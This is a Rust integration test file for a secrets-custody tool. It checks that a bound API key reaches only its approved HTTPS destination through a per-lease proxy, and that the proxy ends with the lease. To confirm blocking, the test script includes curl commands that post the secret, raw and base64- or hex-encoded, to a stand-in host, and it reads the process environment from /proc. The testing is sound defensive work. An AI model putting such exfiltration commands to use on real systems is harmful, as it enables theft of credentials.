//! Bound variables end to end: `custody set --bind`, a pre-approved
//! `custody run` whose child uses curl and git over HTTPS through the
//! lease's proxy to a local upstream (`tests/proxy/upstream.py`, its own
//! test CA; `api.example.test` and `other.test` reach it through the
//! daemon's `CUSTODY_PROXY_RESOLVE`), and the audit trail.

use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::common::*;

const STRIPE: &str = "sk_live_51BoundSecretValue0123456789abcdef";

/// The upstream: its port, its CA and its request log.
struct Upstream {
    child: Child,
    port: u16,
    ca: PathBuf,
    log: PathBuf,
    _dir: tempfile::TempDir,
}

impl Upstream {
    fn start() -> Upstream {
        let dir = tempfile::tempdir().unwrap();
        let script =
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/proxy/upstream.py");
        let mut child = Command::new("python3")
            .arg(script)
            .arg(dir.path())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let v: Value = serde_json::from_str(&line).unwrap();
        Upstream {
            child,
            port: u16::try_from(v["port"].as_u64().unwrap()).unwrap(),
            ca: v["ca"].as_str().unwrap().into(),
            log: v["log"].as_str().unwrap().into(),
            _dir: dir,
        }
    }

    fn requests(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A broker started with the proxy's test hooks, `dev/STRIPE_KEY` bound to
/// the upstream's `/v1/*`, and `script` pre-approved.
fn bound_env(up: &Upstream, script: &str) -> Env {
    let e = Env::new(None);
    let custody = assert_cmd::cargo::cargo_bin("custody");
    e.kit.stop_broker(&custody);
    let resolve = format!(
        "api.example.test=127.0.0.1:{0},other.test=127.0.0.1:{0}",
        up.port
    );
    let out = e.unlock_with(&[
        ("CUSTODY_PROXY_CA_FILE", up.ca.as_os_str()),
        ("CUSTODY_PROXY_RESOLVE", std::ffi::OsStr::new(&resolve)),
    ]);
    assert!(out.status.success());
    let dest = format!("https://api.example.test:{}", up.port);
    e.ok(
        &[
            "set",
            "dev",
            "STRIPE_KEY",
            "--bind",
            &dest,
            "--path",
            "/v1/*",
            "--pin-stdin",
        ],
        &format!("{PIN}\n{STRIPE}"),
    );
    e.apply_policy(&preapproving(&["sh", "-c", script]));
    e
}

#[test]
fn a_bound_value_reaches_only_its_destination_and_never_the_child() {
    let up = Upstream::start();
    let port = up.port;
    // ./scripts/test makes a venv with `requests` and names it here.
    let python = std::env::var("CUSTODY_TEST_PYTHON").unwrap_or_else(|_| "python3".into());
    let script = format!(
        r#"curl -sS -H "Authorization: Bearer $STRIPE_KEY" https://api.example.test:{port}/v1/charges
{python} -c 'import os, requests; print("requests=%d" % requests.get("https://api.example.test:{port}/v1/balance", headers={{"Authorization": "Bearer " + os.environ["STRIPE_KEY"]}}, timeout=20).status_code)'
curl -sS -o /dev/null -w 'other=%{{http_code}}\n' -d "$STRIPE_KEY" https://other.test:{port}/collect
curl -sS -o /dev/null -w 'b64=%{{http_code}}\n' -d "$(printf %s "$STRIPE_KEY" | base64 -w0)" https://other.test:{port}/collect
curl -sS -o /dev/null -w 'hex=%{{http_code}}\n' -d "$(printf %s "$STRIPE_KEY" | od -An -tx1 | tr -d ' \n')" https://other.test:{port}/collect
git -c http.extraHeader="Authorization: Bearer $STRIPE_KEY" ls-remote https://api.example.test:{port}/v1/repo.git >/dev/null 2>&1
tr '\0' '\n' < /proc/$$/environ | grep -c '^STRIPE_KEY=sk_live_custodyPH'
tr '\0' '\n' < /proc/$$/environ | grep -c '{STRIPE}' || true"#
    );
    let e = bound_env(&up, &script);
    let out = e
        .cmd(&["run", "-e", "dev", "--", "sh", "-c", &script], "")
        .success();
    let text = String::from_utf8_lossy(&out.get_output().stdout).into_owned();
    // The child never saw the value: not in its output, not in its
    // environment (the placeholder is, once; the value, zero times).
    assert!(!text.contains(STRIPE), "{text}");
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines.contains(&"authorization=Bearer [masked:STRIPE_KEY]"),
        "{text}"
    );
    assert!(
        ["other=403", "b64=403", "hex=403"]
            .iter()
            .all(|l| lines.contains(l)),
        "{text}"
    );
    assert!(lines.contains(&"requests=200"), "{text}");
    assert_eq!(lines[lines.len() - 2..], ["1", "0"], "{text}");
    // The upstream got the value on the bound requests (curl, then git's
    // smart-HTTP probe), and nothing from the refused ones.
    let seen = up.requests();
    let bearer = format!("Bearer {STRIPE}");
    assert!(
        seen.iter()
            .any(|r| r["path"] == "/v1/charges" && r["authorization"] == bearer.as_str()),
        "{seen:?}"
    );
    assert!(
        seen.iter().any(|r| r["path"]
            .as_str()
            .is_some_and(|p| p.starts_with("/v1/repo.git/info/refs"))
            && r["authorization"] == bearer.as_str()),
        "git: {seen:?}"
    );
    assert!(
        seen.iter()
            .any(|r| r["path"] == "/v1/balance" && r["authorization"] == bearer.as_str()),
        "requests: {seen:?}"
    );
    assert!(!seen.iter().any(|r| r["path"] == "/collect"), "{seen:?}");
    // Audited by name: the requests sent on with the value, the three refused.
    let sent = e.audit("proxy_request");
    assert!(
        sent.iter()
            .filter(|r| r["event"]["injected"][0] == "STRIPE_KEY")
            .count()
            >= 3,
        "{sent:?}"
    );
    let blocked = e.audit("exfiltration_blocked");
    assert_eq!(blocked.len(), 3, "{blocked:?}");
    assert_eq!(blocked[0]["event"]["variables"][0], "STRIPE_KEY");
    assert!(
        blocked[0]["event"]["destination"]
            .as_str()
            .unwrap()
            .starts_with("https://other.test")
    );
}

#[test]
fn the_proxy_ends_with_the_lease() {
    let up = Upstream::start();
    // The child hands its proxy URL to a process that outlives it.
    let script = r#"printf %s "$HTTPS_PROXY" > proxy-url"#;
    let e = bound_env(&up, script);
    e.ok(&["run", "-e", "dev", "--", "sh", "-c", script], "");
    let url = std::fs::read_to_string(e.work().join("proxy-url")).unwrap();
    assert!(url.starts_with("http://custody:"), "{url}");
    std::thread::sleep(Duration::from_millis(300));
    let addr = url.rsplit('@').next().unwrap();
    assert!(
        std::net::TcpStream::connect(addr).is_err(),
        "the lease's proxy still listens at {addr}"
    );
}

#[test]
fn the_proxy_ends_at_the_lease_deadline() {
    let up = Upstream::start();
    // Still running at its deadline: killed, and its proxy with it.
    let script = r#"printf %s "$HTTPS_PROXY" > proxy-url; sleep 30"#;
    let e = bound_env(&up, script);
    let out = e
        .cmd(
            &[
                "run",
                "-e",
                "dev",
                "--timeout",
                "2s",
                "--",
                "sh",
                "-c",
                script,
            ],
            "",
        )
        .get_output()
        .clone();
    assert!(
        !out.status.success(),
        "the lease should end at its deadline"
    );
    let url = std::fs::read_to_string(e.work().join("proxy-url")).unwrap();
    let addr = url.rsplit('@').next().unwrap().to_owned();
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        std::net::TcpStream::connect(&addr).is_err(),
        "the lease's proxy still listens at {addr} after the deadline"
    );
}

#[test]
fn the_approval_shows_where_a_bound_value_can_go() {
    let up = Upstream::start();
    let e = bound_env(&up, "true");
    // Not pre-approved: the run waits for a human.
    let mut run = e
        .command(&assert_cmd::cargo::cargo_bin("custody"))
        .args(["run", "-e", "dev", "--", "printenv", "STRIPE_KEY"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let id = pending_id(&e);
    let list = e.json(&["approve", "--list"]);
    let shown = &list[0]["bound"]["dev/STRIPE_KEY"];
    assert_eq!(
        shown[0],
        format!("https://api.example.test:{} /v1/*", up.port).as_str(),
        "{list}"
    );
    // The human's prompt says it in words.
    let text = e.ok(&["approve", "--list"], "");
    assert!(
        text.contains("dev/STRIPE_KEY is bound: only to https://api.example.test"),
        "{text}"
    );
    e.ok(&["deny", &id], "");
    let _ = run.wait();
}
